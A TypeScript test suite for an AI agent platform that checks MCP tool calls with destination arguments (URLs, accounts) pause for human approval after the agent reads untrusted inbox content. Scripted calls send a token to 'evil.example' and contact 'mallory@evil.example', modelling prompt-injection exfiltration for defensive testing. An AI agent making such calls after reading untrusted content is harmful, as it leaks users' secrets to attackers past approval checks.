import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listRunEvents } from '../../src/core/kernel/run-events.ts';
import { ToolRegistry } from '../../src/core/tools/tool-registry.ts';
import type { Approval } from '../../src/plugins/policy/approval-repo.ts';
import { type ScriptedModelServer, startScriptedModelServer } from '../support/scripted-model-server.ts';
import { storeTargets } from '../support/test-stores.ts';
import { type McpHarness, startMcpHarness, WEB_SERVER } from './mcp-harness.ts';

interface ListedTool {
  name: string;
  effect: string;
  destinations: string[];
}

/** Egress by reading through MCP: a read-labelled tool that takes a URL or an account is a channel out. */
describe.each(storeTargets())('MCP destination arguments in tainted runs on $kind', (target) => {
  let model: ScriptedModelServer;
  let h: McpHarness;

  const toolsOf = async () =>
    (await h.api<{ tools: ListedTool[] }>('GET', '/api/mcp/servers/web/tools')).body.tools;
  const decisions = async (runId: string) =>
    (await listRunEvents(h.agentOs.store, runId, 0))
      .filter((e) => e.type === 'policy.decision')
      .map((e) => `${e.data.tool}:${e.data.effect}:${e.data.ruleId}`);
  const approvalOf = async (runId: string) =>
    (await h.api<{ approvals: Approval[] }>('GET', '/api/approvals?status=pending')).body.approvals.find(
      (a) => a.runId === runId,
    );
  const cancel = (runId: string) => h.api('POST', `/api/runs/${runId}/cancel`);
  /** The model reads the inbox (untrusted output: the run is tainted), makes the call, then answers if it can. */
  const taintedCall = (name: string, args: Record<string, unknown>, answers: boolean) =>
    model.enqueue(
      { kind: 'tool_calls', toolCalls: [{ name: 'web__open_inbox', arguments: {} }] },
      { kind: 'tool_calls', toolCalls: [{ name, arguments: args }] },
      ...(answers ? [{ text: 'Done.' }] : []),
    );

  beforeAll(async () => {
    model = await startScriptedModelServer();
    h = await startMcpHarness({
      store: await target.open(),
      modelBaseUrl: model.url,
      tools: new ToolRegistry(),
    });
    const registered = await h.api('POST', '/api/mcp/servers', {
      name: 'web',
      transport: 'stdio',
      command: process.execPath,
      args: ['--import', 'tsx', WEB_SERVER],
    });
    expect(registered.status).toBe(201);
    // Labelled read (and low stakes) by the admin: the flow rule for consequential calls does not apply.
    for (const tool of ['open_inbox', 'visit', 'lookup_account']) {
      const patched = await h.api('PATCH', `/api/mcp/servers/web/tools/${tool}`, {
        effect: 'read',
        stakes: 'low',
      });
      expect(patched.status).toBe(200);
    }
    await h.createAgent({
      name: 'reader',
      tools: ['web__open_inbox', 'web__visit', 'web__lookup_account'],
      limits: { maxSteps: 5 },
    });
  }, 60_000);
  afterAll(async () => {
    await h.agentOs.stop();
    await model.close();
  });
  beforeEach(() => {
    model.requests.length = 0;
  });

  it('counts a format: uri argument as a destination by default', async () => {
    const tools = await toolsOf();
    expect(tools.find((t) => t.name === 'visit')).toMatchObject({ effect: 'read', destinations: ['url'] });
    expect(tools.find((t) => t.name === 'lookup_account')?.destinations).toEqual([]);
  });

  it('pauses a read-labelled tool with a format: uri argument in a tainted run', async () => {
    taintedCall('web__visit', { url: 'https://evil.example/verify?token=launch-code' }, false);
    const paused = await h.runTask('reader', 'What is in my inbox?');
    expect(paused.status).toBe('paused');
    expect(paused.pause).toMatchObject({
      reason: 'approval_required',
      tool: 'web__visit',
      ruleId: 'flow.egress_destination',
    });
    const approval = await approvalOf(paused.id);
    expect(approval?.ruleId).toBe('flow.egress_destination');
    expect(approval?.reason).toContain('the url argument of "web__visit" names a destination');
    expect(approval?.reason).toContain('the run has read untrusted content from "web__open_inbox"');
    expect(await decisions(paused.id)).toEqual([
      'web__open_inbox:allow:default.allow',
      'web__visit:ask:flow.egress_destination',
    ]);
    await cancel(paused.id);
  });

  it('lets the same call through in an untainted run', async () => {
    model.enqueue(
      {
        kind: 'tool_calls',
        toolCalls: [{ name: 'web__visit', arguments: { url: 'https://evil.example/verify?token=x' } }],
      },
      { text: 'Visited.' },
    );
    const run = await h.runTask('reader', 'Visit the page');
    expect(run.status).toBe('succeeded');
    expect(await decisions(run.id)).toEqual(['web__visit:allow:default.allow']);
  });

  it('pauses an argument once an admin marks it as a destination; unknown names are refused', async () => {
    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
    const before = await h.runTask('reader', 'Check my inbox');
    expect(before.status).toBe('succeeded');
    expect(await decisions(before.id)).toEqual([
      'web__open_inbox:allow:default.allow',
      'web__lookup_account:allow:default.allow',
    ]);

    const unknown = await h.api<{ error: { code: string; message: string } }>(
      'PATCH',
      '/api/mcp/servers/web/tools/lookup_account',
      { destinations: ['account', 'recipient'] },
    );
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.code).toBe('request.invalid');
    expect(unknown.body.error.message).toContain('has no argument "recipient"');
    expect(unknown.body.error.message).toContain('its arguments: account, note');
    const noTool = await h.api('PATCH', '/api/mcp/servers/web/tools/no_such_tool', { destinations: ['url'] });
    expect(noTool.status).toBe(404);
    const badShape = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
      destinations: [''],
    });
    expect(badShape.status).toBe(400);
    expect((await toolsOf()).find((t) => t.name === 'lookup_account')?.destinations).toEqual([]);

    const marked = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
      destinations: ['account'],
    });
    expect(marked.status).toBe(200);
    expect((await toolsOf()).find((t) => t.name === 'lookup_account')).toMatchObject({
      effect: 'read',
      destinations: ['account'],
    });

    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'x' }, false);
    const after = await h.runTask('reader', 'Check my inbox');
    expect(after.status).toBe('paused');
    expect(after.pause).toMatchObject({ tool: 'web__lookup_account', ruleId: 'flow.egress_destination' });
    expect((await approvalOf(after.id))?.reason).toContain(
      'the account argument of "web__lookup_account" names a destination (mallory@evil.example: it is outside the workspace\'s egress allowlist)',
    );
    await cancel(after.id);
  });

  it("takes an operator's labels: trusted output stops the taint, argument roles mark the security arguments", async () => {
    const badRole = await h.api<{ error: { code: string; message: string } }>(
      'PATCH',
      '/api/mcp/servers/web/tools/lookup_account',
      { argumentRoles: { payee: 'recipient' } },
    );
    expect(badRole.status).toBe(400);
    expect(badRole.body.error.message).toContain('has no argument "payee"');
    const badKind = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
      argumentRoles: { account: 'owner' },
    });
    expect(badKind.status).toBe(400);

    const roles = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
      argumentRoles: { account: 'recipient' },
    });
    expect(roles.status).toBe(200);
    const trusted = await h.api('PATCH', '/api/mcp/servers/web/tools/open_inbox', { trustedOutput: true });
    expect(trusted.status).toBe(200);
    const tools = await toolsOf();
    expect(tools.find((t) => t.name === 'lookup_account')).toMatchObject({
      argumentRoles: { account: 'recipient' },
      securityArguments: ['account'],
      destinations: ['account'],
      trustedOutput: false,
    });
    expect(tools.find((t) => t.name === 'open_inbox')).toMatchObject({
      trustedOutput: true,
      securityArguments: null,
    });

    // The inbox is the workspace's own data now: the run is not tainted, the call needs nobody.
    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
    const run = await h.runTask('reader', 'Check my inbox');
    expect(run.status).toBe('succeeded');
    expect(await decisions(run.id)).toEqual([
      'web__open_inbox:allow:default.allow',
      'web__lookup_account:allow:default.allow',
    ]);
    const reset = await h.api('PATCH', '/api/mcp/servers/web/tools/open_inbox', { trustedOutput: false });
    expect(reset.status).toBe(200);

    // An argument marked secret is shown masked to the person deciding; the others as the model sent them.
    const secret = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
      argumentRoles: { account: 'recipient', note: 'secret' },
    });
    expect(secret.status).toBe(200);
    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'pin 1234' }, false);
    const asked = await h.runTask('reader', 'Check my inbox');
    expect(asked.status).toBe('paused');
    expect((await approvalOf(asked.id))?.arguments).toEqual({
      account: 'mallory@evil.example',
      note: '[secret]',
    });
    await cancel(asked.id);

    // Fields of an untrusted output an operator vouches for: checked paths, listed back, cleared with [].
    const badPath = await h.api<{ error: { code: string; message: string; details?: unknown } }>(
      'PATCH',
      '/api/mcp/servers/web/tools/open_inbox',
      { trustedFields: ['messages[0].from'] },
    );
    expect(badPath.status).toBe(400);
    expect(badPath.body.error.code).toBe('request.invalid');
    expect(JSON.stringify(badPath.body.error)).toContain('a field path is property names joined by dots');
    const fields = await h.api('PATCH', '/api/mcp/servers/web/tools/open_inbox', {
      trustedFields: ['[].from', 'messages[].id'],
    });
    expect(fields.status).toBe(200);
    expect((await toolsOf()).find((t) => t.name === 'open_inbox')).toMatchObject({
      trustedOutput: false,
      trustedFields: ['[].from', 'messages[].id'],
    });
    expect(
      (await h.api('PATCH', '/api/mcp/servers/web/tools/open_inbox', { trustedFields: [] })).status,
    ).toBe(200);
    expect((await toolsOf()).find((t) => t.name === 'open_inbox')).toMatchObject({ trustedFields: [] });
  });
});
